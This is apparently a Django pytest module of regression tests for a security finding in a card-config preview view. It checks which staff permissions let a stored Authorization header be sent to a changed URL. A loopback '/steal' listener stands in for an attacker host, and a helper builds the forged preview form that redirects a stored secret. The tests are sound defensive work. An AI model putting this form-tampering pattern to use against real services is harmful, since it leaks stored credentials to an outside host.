"""Who may send stored secrets where through the preview (issue 13, finding 1; SPEC §8).

The attack: a staff user who may only view card configs posts the preview form with
another URL, the config's id and the stored header's id with an empty value. Stored
values must only ever reach the config's saved URL, and only for users who may change it;
a changed URL gets them only with `cards.reveal_secrets` as well.
"""

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse
from pytest_httpserver import HTTPServer

from tests.cards.cardapi import card
from tests.factories import CardConfigFactory, CardConfigHeaderFactory, UserFactory

pytestmark = pytest.mark.django_db

SECRET = "Bearer team-billing-t0k3n"
PREVIEW_URL = reverse("cards:preview")


@pytest.fixture
def attacker():
    """A second real listener on loopback, standing for a host the attacker controls."""
    server = HTTPServer(host="127.0.0.1", port=0)
    server.expect_request("/steal").respond_with_json({"cards": []})
    server.start()
    yield server
    server.clear()
    server.stop()


def staff(*codenames: str) -> Client:
    user = UserFactory(username="staff-" + "-".join(codenames), is_staff=True)
    user.user_permissions.set(
        Permission.objects.filter(content_type__app_label="cards", codename__in=codenames)
    )
    client = Client()
    client.force_login(user)
    return client


def attack_form(*, url: str, config, header) -> dict[str, str]:
    """The attack as posted: another URL, the config's id, the stored header's id, no value."""
    return {
        "title": config.title,
        "key": config.key,
        "api_url": url,
        "default_ttl_seconds": "300",
        "headers-TOTAL_FORMS": "1",
        "headers-INITIAL_FORMS": "1",
        "headers-0-id": str(header.pk),
        "headers-0-name": header.name,
        "headers-0-value": "",
        "preview-object_id": str(config.pk),
        "preview-customer": "",
    }


def stored_config(card_api):
    card_api.serve({"billing": card("billing")})
    config = CardConfigFactory(key="billing", api_url=card_api.url)
    return config, CardConfigHeaderFactory(config=config, value=SECRET)


def test_a_view_only_user_cannot_send_a_stored_secret_to_another_url(card_api, attacker):
    config, header = stored_config(card_api)

    response = staff("view_cardconfig").post(
        PREVIEW_URL, attack_form(url=attacker.url_for("/steal"), config=config, header=header)
    )

    assert response.status_code == 200
    assert attacker.log == []  # nothing reached the attacker's listener
    # The view-only user previewed the saved config as it is, at its saved URL.
    assert card_api.keys_requested == [["billing"]]
    assert card_api.headers[0]["Authorization"] == SECRET
    assert SECRET not in response.content.decode()


def test_an_editor_without_reveal_cannot_send_a_stored_secret_to_another_url(card_api, attacker):
    config, header = stored_config(card_api)
    editor = staff("view_cardconfig", "change_cardconfig")

    response = editor.post(
        PREVIEW_URL, attack_form(url=attacker.url_for("/steal"), config=config, header=header)
    )

    assert attacker.log == []
    assert card_api.requests == []
    page = response.content.decode()
    assert 'data-preview-state="invalid"' in page
    assert "only sent to the saved API URL" in page


def test_an_editor_sends_stored_secrets_to_the_saved_url(card_api):
    config, header = stored_config(card_api)
    editor = staff("view_cardconfig", "change_cardconfig")

    editor.post(PREVIEW_URL, attack_form(url=card_api.url, config=config, header=header))

    assert card_api.headers[0]["Authorization"] == SECRET


def test_a_typed_value_goes_to_a_changed_url(card_api, attacker):
    config, header = stored_config(card_api)
    form = attack_form(url=attacker.url_for("/steal"), config=config, header=header)
    form["headers-0-value"] = "Bearer typed-by-the-editor"

    staff("view_cardconfig", "change_cardconfig").post(PREVIEW_URL, form)

    assert len(attacker.log) == 1
    assert attacker.log[0][0].headers["Authorization"] == "Bearer typed-by-the-editor"


def test_change_and_reveal_together_send_stored_secrets_to_a_changed_url(card_api, attacker):
    config, header = stored_config(card_api)
    trusted = staff("view_cardconfig", "change_cardconfig", "reveal_secrets")

    trusted.post(
        PREVIEW_URL, attack_form(url=attacker.url_for("/steal"), config=config, header=header)
    )

    assert attacker.log[0][0].headers["Authorization"] == SECRET


def test_reveal_without_change_previews_only_the_saved_config(card_api, attacker):
    config, header = stored_config(card_api)

    staff("view_cardconfig", "reveal_secrets").post(
        PREVIEW_URL, attack_form(url=attacker.url_for("/steal"), config=config, header=header)
    )

    assert attacker.log == []
    assert card_api.headers[0]["Authorization"] == SECRET


def test_a_header_id_of_another_config_sends_nothing_stored(card_api, attacker):
    _, header = stored_config(card_api)
    other = CardConfigFactory(key="other", api_url=attacker.url_for("/steal"))

    staff("view_cardconfig", "change_cardconfig").post(
        PREVIEW_URL, attack_form(url=attacker.url_for("/steal"), config=other, header=header)
    )

    assert all("Authorization" not in request.headers for request, _ in attacker.log)


# --- Which secret signed (finding 4) ------------------------------------------------------


def test_the_preview_names_the_own_signing_secret_by_fingerprint_only(card_api):
    from cards.configuration.signing import card_signing_secret_rotate
    from cards.protocol.signing import secret_fingerprint

    config, header = stored_config(card_api)
    secret = card_signing_secret_rotate(configs=[config])

    response = staff("view_cardconfig", "change_cardconfig", "reveal_secrets").post(
        PREVIEW_URL, attack_form(url=card_api.url, config=config, header=header)
    )

    page = response.content.decode()
    assert f"Signed with <code>{secret_fingerprint(secret)}</code>" in page
    assert "this card API's own secret" in page
    assert secret not in page


def test_a_changed_url_is_not_signed_with_the_configs_own_secret(card_api, attacker, settings):
    from cards.configuration.signing import card_signing_secret_rotate

    settings.CARDS_SIGNING_SECRETS = []
    config, header = stored_config(card_api)
    card_signing_secret_rotate(configs=[config])
    form = attack_form(url=attacker.url_for("/steal"), config=config, header=header)
    form["headers-0-value"] = "Bearer typed"

    response = staff("view_cardconfig", "change_cardconfig").post(PREVIEW_URL, form)

    assert not any("signature" in name.lower() for name, _ in attacker.log[0][0].headers)
    assert "Unsigned." in response.content.decode()


def test_check_card_api_says_which_secret_signed(card_api, settings):
    from io import StringIO

    from django.core.management import call_command

    from cards.configuration.signing import card_signing_secret_rotate
    from cards.protocol.signing import secret_fingerprint

    config, _ = stored_config(card_api)
    settings.CARDS_SIGNING_SECRETS = []
    out = StringIO()
    call_command("check_card_api", "--url", card_api.url, "--key", "billing", stdout=out)
    assert "signed with: unsigned" in out.getvalue()

    secret = card_signing_secret_rotate(configs=[config])
    out = StringIO()
    call_command("check_card_api", "--config", "billing", stdout=out)
    assert f"signed with: {secret_fingerprint(secret)}" in out.getvalue()
    assert card_api.headers[-1]["Authorization"] == SECRET
    assert secret not in out.getvalue()
